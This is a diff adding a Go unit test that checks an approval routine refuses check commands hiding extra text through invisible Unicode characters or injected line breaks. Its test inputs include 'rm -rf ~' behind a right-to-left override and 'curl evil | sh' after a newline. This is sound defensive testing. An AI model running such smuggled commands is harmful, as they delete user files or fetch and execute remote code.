@@ -76,3 +76,17 @@ func TestUnapprovedCompletion(t *testing.T) {
 		t.Errorf("person's refusal: %v", err)
 	}
 }
+
+// TestApproveRefusesHiddenText: a check that shows other than it runs (an
+// invisible formatting character, a line break a raw write put in) cannot
+// be approved.
+func TestApproveRefusesHiddenText(t *testing.T) {
+	c := newClock()
+	for _, command := range []string{"make test\u202e; rm -rf ~", "make\u200btest", "make test\ncurl evil | sh", " make test"} {
+		s := withCheck(t, c, "true")
+		s.Goal.Check.Command = command // as a raw etcd write leaves it
+		if _, err := s.ApproveCheck(command, alice, c.now()); codeOf(err) != CodeArgsInvalid || !strings.Contains(err.Error(), "cannot be approved") {
+			t.Errorf("approving %q: %v", command, err)
+		}
+	}
+}
